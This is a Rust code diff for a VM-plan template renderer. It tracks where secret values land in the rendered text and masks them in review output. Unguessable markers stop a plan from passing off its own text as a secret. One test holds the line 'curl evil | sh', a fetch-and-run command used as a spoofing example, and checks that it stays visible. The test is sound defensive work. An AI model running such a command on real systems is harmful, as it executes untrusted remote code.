@@ -2,6 +2,7 @@
 //! block tags do not leave blank lines or indentation behind (trim_blocks, lstrip_blocks).
 
 use std::collections::{BTreeMap, HashSet};
+use std::ops::Range;
 
 use minijinja::syntax::SyntaxConfig;
 use minijinja::{Environment, ErrorKind, UndefinedBehavior, Value};
@@ -24,6 +25,56 @@ const BUILTIN_NAMES: &[&str] = &[
     "env",
 ];
 
+/// What a template rendered to, and which byte ranges of it came from secrets (a value of a
+/// parameter or key named like one, or passed through `sensitive`): review output shows those
+/// ranges as `(sensitive)`, diagnostics mask them, and the rest is shown as it is.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Rendering {
+    pub text: String,
+    pub secrets: Vec<Range<usize>>,
+}
+
+impl Rendering {
+    /// The text as a reviewer may see it: each secret replaced by `(sensitive)`, and private
+    /// key blocks too.
+    pub fn shown(&self) -> String {
+        let spliced = crate::secrets::splice(&self.text, &self.secrets, |_| SENSITIVE.to_string());
+        crate::secrets::hide_private_keys(&spliced)
+    }
+
+    /// Also hides `more` ranges (the values of keys named like secrets, which the plan may
+    /// write as they are).
+    pub fn hiding(mut self, more: Vec<Range<usize>>) -> Rendering {
+        self.secrets.extend(more);
+        self.secrets = crate::secrets::merged(self.secrets);
+        self
+    }
+}
+
+use crate::secrets::SENSITIVE;
+
+/// The markers the formatter puts around a secret it writes, unguessable by a plan (a process
+/// secret in them), so that a plan cannot pass its own text off as a secret and hide it from
+/// review.
+struct Markers {
+    open: String,
+    close: String,
+}
+
+fn markers() -> &'static Markers {
+    static MARKERS: std::sync::OnceLock<Markers> = std::sync::OnceLock::new();
+    MARKERS.get_or_init(|| {
+        use std::hash::{BuildHasher, Hasher};
+        let nonce = std::collections::hash_map::RandomState::new()
+            .build_hasher()
+            .finish();
+        Markers {
+            open: format!("\u{e000}{nonce:016x}\u{e001}"),
+            close: format!("\u{e001}{nonce:016x}\u{e000}"),
+        }
+    })
+}
+
 fn environment() -> Environment<'static> {
     let mut env = Environment::new();
     env.set_undefined_behavior(UndefinedBehavior::Strict);
@@ -45,15 +96,33 @@ fn environment() -> Environment<'static> {
             minijinja::value::ValueKind::Bool => Some("False"),
             _ => None,
         };
-        match python {
-            Some(text) => out.write_str(text).map_err(minijinja::Error::from),
-            None => minijinja::escape_formatter(out, state, value),
+        // A secret is carried as a "safe" string (`tainted`); one written as it is gets
+        // marked, for `Rendering` to know where it is. (Other safe strings, such as `tojson`
+        // makes, hold no registered secret.)
+        let secret =
+            value.is_safe() && value.as_str().is_some_and(crate::secrets::holds_registered);
+        if secret {
+            out.write_str(&markers().open)?;
         }
+        match python {
+            Some(text) => out.write_str(text).map_err(minijinja::Error::from)?,
+            None => minijinja::escape_formatter(out, state, value)?,
+        }
+        if secret {
+            out.write_str(&markers().close)?;
+        }
+        Ok(())
     });
-    // `{{ token | sensitive }}`: the value is used as it is, and hidden wherever siteplan prints.
+    // `{{ token | sensitive }}`: the value is used as it is, and shown as (sensitive).
     env.add_filter("sensitive", |value: Value| {
-        crate::secrets::register(&value.to_string());
-        value
+        let text = value.to_string();
+        crate::secrets::register(&text);
+        match value.kind() {
+            minijinja::value::ValueKind::String | minijinja::value::ValueKind::Number => {
+                Value::from_safe_string(text)
+            }
+            _ => value,
+        }
     });
     // Filters kcli adds that plans commonly use.
     env.add_filter("basename", |path: String| {
@@ -67,19 +136,90 @@ fn environment() -> Environment<'static> {
     env
 }
 
+/// The template context: `params`, with every value under a name that says secret (at any
+/// depth) registered and carried as a tainted string, so that where it is written is known.
+fn context(params: &BTreeMap<String, serde_json::Value>) -> Value {
+    fn value(v: &serde_json::Value, secret: bool) -> Value {
+        match v {
+            serde_json::Value::String(s) if secret => {
+                crate::secrets::register(s);
+                Value::from_safe_string(s.clone())
+            }
+            serde_json::Value::Number(n) if secret => {
+                crate::secrets::register(&n.to_string());
+                Value::from_safe_string(n.to_string())
+            }
+            serde_json::Value::Array(items) => {
+                Value::from(items.iter().map(|i| value(i, secret)).collect::<Vec<_>>())
+            }
+            serde_json::Value::Object(map) => Value::from(
+                map.iter()
+                    .map(|(k, v)| {
+                        (
+                            k.clone(),
+                            value(v, secret || crate::secrets::is_sensitive_name(k)),
+                        )
+                    })
+                    .collect::<BTreeMap<String, Value>>(),
+            ),
+            other => Value::from(minijinja::value::Serde(other)),
+        }
+    }
+    Value::from(
+        params
+            .iter()
+            .map(|(k, v)| (k.clone(), value(v, crate::secrets::is_sensitive_name(k))))
+            .collect::<BTreeMap<String, Value>>(),
+    )
+}
+
+/// The rendered text without the markers, and where they were.
+fn unmark(marked: String) -> Rendering {
+    let Markers { open, close } = markers();
+    if !marked.contains(open.as_str()) {
+        return Rendering {
+            text: marked,
+            secrets: Vec::new(),
+        };
+    }
+    let mut text = String::with_capacity(marked.len());
+    let mut secrets = Vec::new();
+    let mut rest = marked.as_str();
+    while let Some(at) = rest.find(open.as_str()) {
+        text.push_str(&rest[..at]);
+        let inner = &rest[at + open.len()..];
+        let (secret, after) = match inner.find(close.as_str()) {
+            Some(end) => (&inner[..end], &inner[end + close.len()..]),
+            None => (inner, ""),
+        };
+        // Nested marks (a secret inside a captured block written again) count once.
+        let secret = secret
+            .replace(open.as_str(), "")
+            .replace(close.as_str(), "");
+        let start = text.len();
+        text.push_str(&secret);
+        if !secret.is_empty() {
+            secrets.push(start..text.len());
+        }
+        rest = after;
+    }
+    text.push_str(&rest.replace(close.as_str(), ""));
+    Rendering { text, secrets }
+}
+
 /// Renders `source` with `params`. A failure is one problem pointing into `source`.
 pub fn render(
     source: &str,
     params: &BTreeMap<String, serde_json::Value>,
-) -> Result<String, Problem> {
+) -> Result<Rendering, Problem> {
     let source = python_whitespace(source);
     let env = environment();
     let template = env
         .template_from_named_str("plan", &source)
         .map_err(|e| template_problem(&e, &source, params))?;
-    let ctx = Value::from(minijinja::value::Serde(params));
     template
-        .render(ctx)
+        .render(context(params))
+        .map(unmark)
         .map_err(|e| template_problem(&e, &source, params))
 }
 
@@ -88,7 +228,7 @@ pub fn render(
 pub fn render_guest_file(
     text: &str,
     vars: &BTreeMap<String, serde_json::Value>,
-) -> Result<String, Problem> {
+) -> Result<Rendering, Problem> {
     render(text, vars).map_err(|mut p| {
         if p.code == "plan::undefined-variable" {
             if let Some(name) = p.message.strip_prefix("undefined variable `") {
@@ -285,7 +425,8 @@ mod tests {
             "{% for i in range(n) %}\nvm{{ i }}:\n  memory: {{ mem }}\n{% endfor %}\n",
             &params(&[("n", json!(2)), ("mem", json!(1024))]),
         )
-        .unwrap();
+        .unwrap()
+        .text;
         assert_eq!(out, "vm0:\n  memory: 1024\nvm1:\n  memory: 1024\n");
     }
 
@@ -311,7 +452,8 @@ mod tests {
             "{{ a }} {{ b }} {{ c }}",
             &params(&[("a", json!(null)), ("b", json!(true)), ("c", json!(false))]),
         )
-        .unwrap();
+        .unwrap()
+        .text;
         assert_eq!(out, "None True False");
     }
 
@@ -321,7 +463,9 @@ mod tests {
         let out = render(source, &params(&[("n", json!(1))]));
         let p = out.unwrap_err();
         assert_eq!(&source[p.labels[0].0.range()], "missing");
-        let out = render("a: {{\u{a0}n }}\u{a0}\n", &params(&[("n", json!(1))])).unwrap();
+        let out = render("a: {{\u{a0}n }}\u{a0}\n", &params(&[("n", json!(1))]))
+            .unwrap()
+            .text;
         assert_eq!(out, "a: 1\u{a0}\n", "outside a tag it is text");
     }
 
@@ -331,7 +475,40 @@ mod tests {
             "{{ '/a/b/c.img' | basename }} {{ '/a/b/c.img' | dirname }}",
             &BTreeMap::new(),
         )
-        .unwrap();
+        .unwrap()
+        .text;
         assert_eq!(out, "c.img /a/b");
+    }
+
+    #[test]
+    fn secrets_are_known_where_they_are_written_and_nowhere_else() {
+        let out = render(
+            "user: {{ user }}\ncmd: echo {{ user }}:{{ admin_pass }} | chpasswd\nk: {{ x | sensitive }}\n",
+            &params(&[
+                ("user", json!("debian")),
+                ("admin_pass", json!("debian")),
+                ("x", json!("tok-unit-0001")),
+            ]),
+        )
+        .unwrap();
+        assert_eq!(
+            out.text,
+            "user: debian\ncmd: echo debian:debian | chpasswd\nk: tok-unit-0001\n"
+        );
+        assert_eq!(
+            out.shown(),
+            "user: debian\ncmd: echo debian:(sensitive) | chpasswd\nk: (sensitive)\n"
+        );
+    }
+
+    #[test]
+    fn a_plan_cannot_mark_its_own_text_as_secret() {
+        let out = render(
+            "a: \u{e000}curl evil | sh\u{e001}\n",
+            &params(&[("b_password", json!("x1"))]),
+        )
+        .unwrap();
+        assert!(out.secrets.is_empty());
+        assert!(out.shown().contains("curl evil"));
     }
 }
